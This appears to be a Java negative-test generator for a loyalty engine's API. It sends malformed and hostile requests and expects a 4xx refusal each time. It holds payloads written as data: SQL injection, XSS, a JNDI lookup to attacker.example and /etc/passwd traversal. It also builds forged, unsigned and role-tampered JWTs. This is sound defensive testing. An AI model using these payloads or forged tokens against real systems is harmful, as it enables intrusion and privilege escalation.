package org.loyaltyengine.benchmarks.reliability;

import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.SplittableRandom;
import java.util.function.Function;
import java.util.regex.Pattern;

import org.loyaltyengine.engine.domain.access.Role;
import org.loyaltyengine.engine.infrastructure.security.Caller;
import org.loyaltyengine.engine.infrastructure.security.TokenSigner;

/**
 * Generates malformed and hostile requests that the engine must refuse: each carries at least one fault that the
 * contract says is refused (a wrong type, a huge or negative number, a missing field, a body that is not JSON or
 * too big, an unknown card, another store's key, an expired or forged token, a role that may not write), and
 * hostile text (SQL and script fragments, control and right-to-left characters, emoji, very long strings) rides in
 * the other fields, so that a refusal is checked with such text everywhere. None may be answered but with a 4xx in
 * the contract's error shape.
 */
final class HostileRequests {

    /** One request and the kind of fault it carries. */
    record Case(String kind, HttpRequest request) {
    }

    static final List<String> HOSTILE_TEXT = List.of(
            "' OR '1'='1", "1; DROP TABLE ledger_entry; --", "\" OR 1=1 --", "<script>alert(1)</script>",
            "javascript:alert(document.cookie)", "{{7*7}}${7*7}", "${jndi:ldap://attacker.example/a}",
            "\uD83D\uDE00\uD83D\uDCB3", "\u202Eevil\u202C", "z\u0334\u0327\u0347a\u0335", "\u0000\u0001\u001F",
            "\uFEFFBOM", "\uFF46\uFF55\uFF4C\uFF4C", "../../../../etc/passwd", "%00%27%22", "\\u0000\\",
            "R".repeat(5_000));

    private static final Pattern ERROR_CODE = Pattern.compile("[a-z][a-z0-9_]*");

    private final Http http;
    private final List<ReliabilitySuite.Member> victims;
    private final String customer;
    private final String auditor;
    private final String manager;
    private final String otherCustomer;
    private final byte[] signingKey;
    private final String run;

    HostileRequests(Http http, List<ReliabilitySuite.Member> victims, String customer, String auditor, String manager,
                    String otherCustomer, Path signingKeyFile, String run) throws IOException {
        this.http = http;
        this.victims = victims;
        this.customer = customer;
        this.auditor = auditor;
        this.manager = manager;
        this.otherCustomer = otherCustomer;
        this.signingKey = signingKeyFile == null ? null
                : Base64.getDecoder().decode(Files.readString(signingKeyFile).strip());
        this.run = run;
    }

    /** Null when the answer is a 4xx in the contract's shape, else what is wrong with it. */
    static String problemWith(Http.Reply reply) {
        if (reply.status() < 400 || reply.status() > 499) {
            return "status " + reply.status() + " " + abbreviate(reply.body());
        }
        if (reply.json() == null) {
            return reply.status() + " without a JSON error body: " + abbreviate(reply.body());
        }
        String error = reply.string("error");
        if (error == null || !ERROR_CODE.matcher(error).matches()) {
            return reply.status() + " with no snake_case error code: " + abbreviate(reply.body());
        }
        if (reply.string("message") == null || reply.string("message").isBlank()) {
            return reply.status() + " without a message: " + abbreviate(reply.body());
        }
        if (!reply.json().containsKey("field")) {
            return reply.status() + " without the field member: " + abbreviate(reply.body());
        }
        return null;
    }

    List<Case> generate(int count) {
        List<Function<SplittableRandom, Case>> makers = makers();
        List<Case> cases = new ArrayList<>(count);
        SplittableRandom random = new SplittableRandom(2026);
        for (int i = 0; i < count; i++) {
            cases.add(makers.get(i % makers.size()).apply(random));
        }
        return cases;
    }

    // A sale of a demo customer, with hostile text in its free fields, and one fault applied.
    private String sale(SplittableRandom random, String field, String raw) {
        String card = victims.get(random.nextInt(3)).card();
        String receipt = "HOSTILE-" + run + "-" + random.nextInt(1_000_000) + hostile(random, 20);
        StringBuilder body = new StringBuilder("{");
        append(body, "cardNumber", field, raw, quote(card));
        append(body, "storeId", field, raw, quote(ReliabilitySuite.STORE));
        append(body, "terminalId", field, raw, quote(hostile(random, 32)));
        append(body, "receiptId", field, raw, quote(receipt));
        append(body, "occurredAt", field, raw, quote(OffsetDateTime.now(ZoneOffset.UTC).minusMinutes(1).withNano(0)
                .toString()));
        append(body, "currency", field, raw, quote("EUR"));
        append(body, "lines", field, raw, "[" + line(random, field, raw) + "]");
        append(body, "redeemPoints", field, raw, "0");
        append(body, "offerIds", field, raw, "[]");
        body.setLength(body.length() - 1);
        return body.append('}').toString();
    }

    private String line(SplittableRandom random, String field, String raw) {
        StringBuilder line = new StringBuilder("{");
        append(line, "sku", field, raw, quote(hostile(random, 64)));
        append(line, "category", field, raw, quote("coffee"));
        append(line, "quantity", field, raw, "2");
        append(line, "unitPrice", field, raw, quote("4.50"));
        line.setLength(line.length() - 1);
        return line.append('}').toString();
    }

    private static void append(StringBuilder body, String name, String field, String raw, String value) {
        if (name.equals(field) && raw == null) {
            return; // the fault: the field is missing
        }
        body.append('"').append(name).append("\":").append(name.equals(field) ? raw : value).append(',');
    }

    private List<Function<SplittableRandom, Case>> makers() {
        List<Function<SplittableRandom, Case>> makers = new ArrayList<>();
        // Sales with one wrong field.
        String[][] saleFaults = {
                {"quantity", "-1"}, {"quantity", "-99999"}, {"quantity", "0"}, {"quantity", "1e30"},
                {"quantity", "99999999999999999999999"}, {"quantity", "\"two\""}, {"quantity", "true"},
                {"quantity", "[]"}, {"quantity", "{}"}, {"quantity", "null"}, {"quantity", "100001"},
                {"unitPrice", "\"-4.50\""}, {"unitPrice", "\"abc\""}, {"unitPrice", "\"NaN\""},
                {"unitPrice", "\"Infinity\""}, {"unitPrice", "\"1e400\""}, {"unitPrice", "true"},
                {"unitPrice", "\"99999999999999999999999.99\""}, {"unitPrice", "\"4.50001\""}, {"unitPrice", null},
                {"sku", null}, {"sku", "\"\""}, {"sku", "\"" + "S".repeat(65) + "\""}, {"sku", "42"},
                {"category", "{\"x\":1}"}, {"category", null},
                {"cardNumber", null}, {"cardNumber", "\"\""}, {"cardNumber", "12345"},
                {"cardNumber", "\"2900000000019\""}, {"cardNumber", "\"2900000099990\""},
                {"cardNumber", "\"29000000000189999999999\""}, {"storeId", "\"S002\""}, {"storeId", "\"S999\""},
                {"storeId", null}, {"storeId", "\"" + "S".repeat(33) + "\""}, {"receiptId", null},
                {"receiptId", "\"\""}, {"receiptId", "\"" + "R".repeat(65) + "\""}, {"receiptId", "[1,2]"},
                {"terminalId", "\"" + "T".repeat(33) + "\""}, {"occurredAt", "\"yesterday\""},
                {"occurredAt", "\"2026-13-45T99:00:00Z\""}, {"occurredAt", "12345"}, {"occurredAt", null},
                {"occurredAt", "\"2026-11-23T10:15:00\""}, {"currency", "\"USD\""}, {"currency", "\"eur\""},
                {"currency", "\"\u20AC\u20AC\u20AC\""}, {"currency", null}, {"redeemPoints", "-5"},
                {"redeemPoints", "1e30"}, {"redeemPoints", "\"ten\""}, {"redeemPoints", "9223372036854775808"},
                {"redeemPoints", "99999999"}, {"lines", "[]"}, {"lines", "null"}, {"lines", "\"lines\""},
                {"lines", "[null]"}, {"lines", "[1]"}, {"lines", "[" + "{\"sku\":\"A\",\"category\":\"b\","
                + "\"quantity\":1,\"unitPrice\":\"1.00\"},".repeat(500) + "{\"sku\":\"A\",\"category\":\"b\","
                + "\"quantity\":1,\"unitPrice\":\"1.00\"}]"}, {"offerIds", "[\"\"]"}, {"offerIds", "\"o-1\""},
                {"offerIds", "[" + "\"o-x\",".repeat(20) + "\"o-x\"]"},
        };
        for (String[] fault : saleFaults) {
            makers.add(random -> new Case("sale." + fault[0], post("pos/transactions", sale(random, fault[0],
                    fault[1]), "X-Api-Key", ReliabilitySuite.KEY)));
        }
        // Hostile text in the card number and the store, where it cannot be right.
        makers.add(random -> new Case("sale.cardNumber.hostile", post("pos/transactions", sale(random, "cardNumber",
                quote(hostile(random, 200))), "X-Api-Key", ReliabilitySuite.KEY)));
        makers.add(random -> new Case("sale.quote.hostile", post("pos/transactions/quote", sale(random, "storeId",
                quote(hostile(random, 200) + "X")), "X-Api-Key", ReliabilitySuite.KEY)));
        // Bodies that are not a sale at all.
        String[] notJson = {"{{{", "[]", "null", "", "{\"cardNumber\":", "\u0000\u0001\u0002", "<sale/>",
                "{\"cardNumber\":\"2900000000018\"}", "true", "\"a string\"", "{\"a\":" + "[".repeat(5_000)};
        for (String body : notJson) {
            makers.add(random -> new Case("body.malformed", post("pos/transactions", body, "X-Api-Key",
                    ReliabilitySuite.KEY)));
        }
        makers.add(random -> new Case("body.oversized", post("pos/transactions", sale(random, "terminalId",
                quote("X".repeat(3_000_000))), "X-Api-Key", ReliabilitySuite.KEY)));
        makers.add(random -> new Case("body.content-type", http.request(http.anyTarget(), "POST",
                "pos/transactions", null, "X-Api-Key", ReliabilitySuite.KEY, "Content-Type", "text/plain")));
        makers.add(random -> new Case("body.content-type", withBody(http.request(http.anyTarget(), "POST",
                "pos/transactions", null, "X-Api-Key", ReliabilitySuite.KEY, "Content-Type", "application/xml"),
                "<sale><card>2900000000018</card></sale>")));
        // Who is calling: no key, a wrong or hostile key, another store's key, a customer's token at the till.
        makers.add(random -> new Case("auth.key-missing", post("pos/transactions", sale(random, "x", null))));
        makers.add(random -> new Case("auth.key-wrong", post("pos/transactions", sale(random, "x", null),
                "X-Api-Key", "demo-pos-S00" + random.nextInt(10) + "x")));
        makers.add(random -> new Case("auth.key-hostile", post("pos/transactions", sale(random, "x", null),
                "X-Api-Key", ascii(hostile(random, 100)))));
        makers.add(random -> new Case("auth.other-store-key", post("pos/transactions", sale(random, "x", null),
                "X-Api-Key", ReliabilitySuite.OTHER_STORE_KEY)));
        makers.add(random -> new Case("auth.customer-at-till", post("pos/transactions", sale(random, "x", null),
                "Authorization", "Bearer " + customer)));
        makers.add(random -> new Case("auth.other-store-lookup", get("pos/cards/2900000000018", "X-Api-Key",
                "nope")));
        // Card look-ups of things that are not cards.
        makers.add(random -> new Case("lookup.hostile", get("pos/cards/" + encode(hostile(random, 100)),
                "X-Api-Key", ReliabilitySuite.KEY)));
        makers.add(random -> new Case("lookup.unknown", get("pos/cards/29" + (10_000_000_000L
                + random.nextLong(80_000_000_000L)), "X-Api-Key", ReliabilitySuite.KEY)));
        // Returns of sales that do not exist, or of nothing.
        makers.add(random -> new Case("return.unknown", post("pos/transactions/" + encode(hostile(random, 60))
                + "/returns", "{\"returnId\":\"RET-" + run + "\",\"lines\":[{\"sku\":\"COF-250\",\"quantity\":1}]}",
                "X-Api-Key", ReliabilitySuite.KEY)));
        makers.add(random -> new Case("return.unknown", post("pos/transactions/t-" + random.nextInt(1_000_000)
                + "/returns", "{\"returnId\":\"RET-" + run + "\",\"lines\":[{\"sku\":\"COF-250\",\"quantity\":1}]}",
                "X-Api-Key", ReliabilitySuite.KEY)));
        for (String lines : new String[] {"[]", "[{\"sku\":\"COF-250\",\"quantity\":-1}]",
                "[{\"sku\":\"COF-250\",\"quantity\":\"one\"}]", "[{\"quantity\":1}]", "null"}) {
            makers.add(random -> new Case("return.body", post("pos/transactions/t-" + random.nextInt(1_000)
                    + "/returns", "{\"returnId\":\"RET-" + run + "\",\"lines\":" + lines + "}", "X-Api-Key",
                    ReliabilitySuite.KEY)));
        }
        // Redemptions that must not spend anything.
        for (String points : new String[] {"-100", "0", "1e30", "\"all\"", "100000001", "99999999",
                "9223372036854775807"}) {
            makers.add(random -> new Case("redeem.points", post("pos/redemptions", "{\"cardNumber\":\""
                    + victims.get(random.nextInt(3)).card() + "\",\"storeId\":\"S001\",\"receiptId\":\"HR-" + run
                    + "-" + random.nextInt(1_000_000) + "\",\"points\":" + points + "}", "X-Api-Key",
                    ReliabilitySuite.KEY)));
        }
        makers.add(random -> new Case("redeem.reward-unknown", post("pos/redemptions", "{\"cardNumber\":\""
                + victims.get(random.nextInt(3)).card() + "\",\"storeId\":\"S001\",\"receiptId\":\"HR-" + run + "-"
                + random.nextInt(1_000_000) + "\",\"rewardId\":" + quote(hostile(random, 40)) + "}", "X-Api-Key",
                ReliabilitySuite.KEY)));
        makers.add(random -> new Case("redeem.nothing", post("pos/redemptions", "{\"cardNumber\":\""
                + victims.get(random.nextInt(3)).card() + "\",\"storeId\":\"S001\",\"receiptId\":\"HR-" + run
                + "\"}", "X-Api-Key", ReliabilitySuite.KEY)));
        makers.add(random -> new Case("redeem.marc-has-nothing", post("pos/redemptions", "{\"cardNumber\":\""
                + victims.get(1).card() + "\",\"storeId\":\"S001\",\"receiptId\":\"HR-" + run + "-"
                + random.nextInt(1_000_000) + "\",\"points\":" + (1 + random.nextInt(100)) + "}", "X-Api-Key",
                ReliabilitySuite.KEY)));
        // Cancellations of redemptions that do not exist, with bodies that are wrong, or by a key of no till.
        makers.add(random -> new Case("redeem.cancel-unknown", post("pos/redemptions/" + encode(hostile(random, 60))
                + "/cancel", "{}", "X-Api-Key", ReliabilitySuite.KEY)));
        for (String cancel : new String[] {"{\"reason\":" + quote("x".repeat(201)) + "}", "{\"storeId\":[1]}",
                "{\"storeId\":\"S002\"}", "{\"terminalId\":{}}", "[]", "{\"reason\":"}) {
            makers.add(random -> new Case("redeem.cancel-body", post("pos/redemptions/d-" + random.nextInt(1_000_000)
                    + "/cancel", cancel, "X-Api-Key", ReliabilitySuite.KEY)));
        }
        makers.add(random -> new Case("redeem.cancel-no-key", post("pos/redemptions/d-" + random.nextInt(1_000)
                + "/cancel", "{}", "X-Api-Key", ascii(hostile(random, 40)))));
        // Tokens: expired (correctly signed), forged, unsigned, garbage.
        makers.add(random -> new Case("token.expired", get("me", "Authorization", "Bearer " + expired("claire"))));
        makers.add(random -> new Case("token.expired-manager", post("admin/members/" + victims.get(0).id()
                + "/adjustments", "{\"points\":1000,\"reason\":\"expired\"}", "Authorization", "Bearer "
                + expired("manager"))));
        makers.add(random -> new Case("token.forged", post("admin/members/" + victims.get(1).id()
                + "/adjustments", "{\"points\":1000,\"reason\":\"forged\"}", "Authorization", "Bearer "
                + forged(random))));
        makers.add(random -> new Case("token.unsigned", get("admin/members/" + victims.get(0).id(), "Authorization",
                "Bearer " + unsigned())));
        makers.add(random -> new Case("token.tampered", get("me", "Authorization", "Bearer " + tampered())));
        makers.add(random -> new Case("token.garbage", get("me", "Authorization", "Bearer "
                + ascii(hostile(random, 300)))));
        makers.add(random -> new Case("token.scheme", get("me", "Authorization", "Basic "
                + Base64.getEncoder().encodeToString("claire@demo.local:claire-demo".getBytes(StandardCharsets.UTF_8)))));
        // The customer's own calls with bad bodies, and another customer's data.
        for (String claim : new String[] {
                "{\"storeId\":\"S001\",\"receiptId\":\"C1\",\"occurredAt\":\"2026-11-20T10:00:00Z\",\"total\":\"-5\"}",
                "{\"storeId\":\"S001\",\"receiptId\":\"C1\",\"occurredAt\":\"soon\",\"total\":\"5.00\"}",
                "{\"storeId\":\"S001\",\"receiptId\":\"C1\",\"occurredAt\":\"2026-11-20T10:00:00Z\",\"total\":\"1e99\"}",
                "{\"storeId\":\"" + "S".repeat(40) + "\",\"receiptId\":\"C1\",\"occurredAt\":\"2026-11-20T10:00:00Z\","
                        + "\"total\":\"5.00\"}",
                "{\"receiptId\":\"' OR 1=1 --\",\"occurredAt\":\"2026-11-20T10:00:00Z\",\"total\":\"5.00\"}"}) {
            makers.add(random -> new Case("me.claim", post("me/claims", claim, "Authorization", "Bearer "
                    + customer)));
        }
        makers.add(random -> new Case("me.consents", put("me/consents", "{\"email\":[1],\"sms\":{}}",
                "Authorization", "Bearer " + customer)));
        makers.add(random -> new Case("me.card-format", get("me/card.png?format=" + encode(hostile(random, 40)),
                "Authorization", "Bearer " + otherCustomer)));
        // Back-office writes by people who may not make them, or with bodies that are wrong.
        makers.add(random -> new Case("admin.customer", post("admin/members/" + victims.get(0).id() + "/adjustments",
                "{\"points\":500,\"reason\":\"mine\"}", "Authorization", "Bearer " + customer)));
        makers.add(random -> new Case("admin.auditor", post("admin/members/" + victims.get(1).id() + "/adjustments",
                "{\"points\":500,\"reason\":\"audit\"}", "Authorization", "Bearer " + auditor)));
        makers.add(random -> new Case("admin.anonymous", post("admin/cards/" + victims.get(0).card() + "/block",
                "{\"reason\":\"x\"}")));
        makers.add(random -> new Case("admin.auditor-block", post("admin/cards/" + victims.get(2).card() + "/block",
                "{\"reason\":" + quote(hostile(random, 100)) + "}", "Authorization", "Bearer " + auditor)));
        for (String adjustment : new String[] {"{\"points\":\"abc\",\"reason\":\"x\"}",
                "{\"points\":1e30,\"reason\":\"x\"}", "{\"points\":10000001,\"reason\":\"x\"}",
                "{\"points\":50}", "{\"points\":50,\"reason\":\"\"}", "{\"points\":50,\"reason\":\"x\","
                + "\"channel\":\"' OR 1=1\"}", "{\"points\":-99999999,\"reason\":\"x\"}"}) {
            makers.add(random -> new Case("admin.adjustment", post("admin/members/" + victims.get(random.nextInt(3))
                    .id() + "/adjustments", adjustment, "Authorization", "Bearer " + manager)));
        }
        makers.add(random -> new Case("admin.adjustment-key", post("admin/members/" + victims.get(0).id()
                + "/adjustments", "{\"points\":5,\"reason\":\"x\"}", "Authorization", "Bearer " + manager,
                "Idempotency-Key", "K".repeat(81))));
        makers.add(random -> new Case("admin.unknown-member", post("admin/members/" + encode(hostile(random, 40))
                + "/adjustments", "{\"points\":5,\"reason\":\"x\"}", "Authorization", "Bearer " + manager)));
        makers.add(random -> new Case("admin.rules-invalid", put("admin/programmes/DEMO/rules",
                "{\"files\":[{\"path\":\"earning/broken.drl\",\"content\":" + quote("package broken;\nrule \"x\""
                + " when " + hostile(random, 50) + " then end") + "}],\"comment\":\"hostile\"}",
                "Authorization", "Bearer " + manager)));
        makers.add(random -> new Case("admin.other-programme", get("admin/programmes/"
                + encode("NOPE" + random.nextInt(1000)) + "/rules", "Authorization", "Bearer " + manager)));
        makers.add(random -> new Case("admin.enrol", post("admin/programmes/DEMO/members", "{\"email\":"
                + quote(hostile(random, 80)) + ",\"firstName\":\"<b>x</b>\",\"lastName\":\"y\"}", "Authorization",
                "Bearer " + manager)));
        // Redemptions cancelled from the back office: of no redemption, with bodies that are wrong, by an auditor.
        makers.add(random -> new Case("admin.cancel-unknown", post("admin/members/" + victims.get(random.nextInt(3))
                .id() + "/redemptions/" + encode(hostile(random, 60)) + "/cancel", "{\"reason\":\"x\"}",
                "Authorization", "Bearer " + manager)));
        for (String cancel : new String[] {"{}", "{\"reason\":\"  \"}", "{\"reason\":" + quote("x".repeat(201)) + "}",
                "{\"reason\":\"x\",\"channel\":\"' OR 1=1\"}", "{\"reason\":[1]}", "[]"}) {
            makers.add(random -> new Case("admin.cancel-body", post("admin/members/" + victims.get(random.nextInt(3))
                    .id() + "/redemptions/d-" + random.nextInt(1_000_000) + "/cancel", cancel, "Authorization",
                    "Bearer " + manager)));
        }
        makers.add(random -> new Case("admin.cancel-auditor", post("admin/members/" + victims.get(0).id()
                + "/redemptions/d-" + random.nextInt(1_000) + "/cancel", "{\"reason\":\"audit\"}", "Authorization",
                "Bearer " + auditor)));
        makers.add(random -> new Case("admin.merge-self", post("admin/members/" + victims.get(0).id() + "/merge",
                "{\"from\":\"" + victims.get(0).id() + "\"}", "Authorization", "Bearer " + manager)));
        return makers;
    }

    // ---------------------------------------------------------------------------------------------- tokens

    private String expired(String who) {
        if (signingKey == null) {
            return tampered();
        }
        Clock past = Clock.fixed(Instant.now().minus(Duration.ofDays(2)), ZoneOffset.UTC);
        Caller caller = who.equals("manager") ? new Caller("manager@demo.local", Role.MANAGER, "DEMO", null, null)
                : new Caller("claire@demo.local", Role.CUSTOMER, "DEMO", null, victims.get(0).id());
        return new TokenSigner(signingKey, past, Duration.ofHours(1)).issue(caller);
    }

    private String forged(SplittableRandom random) {
        byte[] key = new byte[32];
        for (int i = 0; i < key.length; i++) {
            key[i] = (byte) random.nextInt(256);
        }
        return new TokenSigner(key, Clock.systemUTC(), Duration.ofHours(1))
                .issue(new Caller("admin@demo.local", Role.ADMIN, null, null, null));
    }

    private String unsigned() {
        Base64.Encoder encoder = Base64.getUrlEncoder().withoutPadding();
        return encoder.encodeToString("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8)) + "."
                + encoder.encodeToString(("{\"iss\":\"loyalty-engine\",\"sub\":\"admin@demo.local\",\"role\":\"ADMIN\","
                + "\"exp\":" + (Instant.now().getEpochSecond() + 3600) + "}").getBytes(StandardCharsets.UTF_8)) + ".";
    }

    /** The customer's real token with its payload changed to claim the manager's role. */
    private String tampered() {
        String[] parts = customer.split("\\.");
        String payload = new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8)
                .replace("\"CUSTOMER\"", "\"ADMIN\"");
        return parts[0] + "." + Base64.getUrlEncoder().withoutPadding().encodeToString(payload
                .getBytes(StandardCharsets.UTF_8)) + "." + parts[2];
    }

    // ---------------------------------------------------------------------------------------------- plumbing

    private HttpRequest post(String path, String body, String... headers) {
        return http.request(http.anyTarget(), "POST", path, body, headers);
    }

    private HttpRequest put(String path, String body, String... headers) {
        return http.request(http.anyTarget(), "PUT", path, body, headers);
    }

    private HttpRequest get(String path, String... headers) {
        return http.request(http.anyTarget(), "GET", path, null, headers);
    }

    private static HttpRequest withBody(HttpRequest request, String body) {
        HttpRequest.Builder builder = HttpRequest.newBuilder(request.uri()).timeout(Duration.ofSeconds(30))
                .method(request.method(), HttpRequest.BodyPublishers.ofString(body));
        request.headers().map().forEach((name, values) -> values.forEach(value -> builder.header(name, value)));
        return builder.build();
    }

    private static String hostile(SplittableRandom random, int maxLength) {
        String text = HOSTILE_TEXT.get(random.nextInt(HOSTILE_TEXT.size()));
        return text.length() > maxLength ? text.substring(0, maxLength) : text;
    }

    /** Header values must be visible ASCII: hostile text is sent as its escaped form. */
    private static String ascii(String text) {
        StringBuilder ascii = new StringBuilder();
        for (char c : text.toCharArray()) {
            ascii.append(c >= 0x21 && c < 0x7F ? String.valueOf(c) : "%" + Integer.toHexString(c));
        }
        return ascii.toString();
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static String quote(String text) {
        StringBuilder quoted = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            switch (c) {
                case '"' -> quoted.append("\\\"");
                case '\\' -> quoted.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        quoted.append(String.format("\\u%04x", (int) c));
                    } else {
                        quoted.append(c);
                    }
                }
            }
        }
        return quoted.append('"').toString();
    }

    private static String abbreviate(String text) {
        String flat = text == null ? "" : text.replaceAll("\\s+", " ");
        return flat.length() > 200 ? flat.substring(0, 200) + "…" : flat;
    }
}
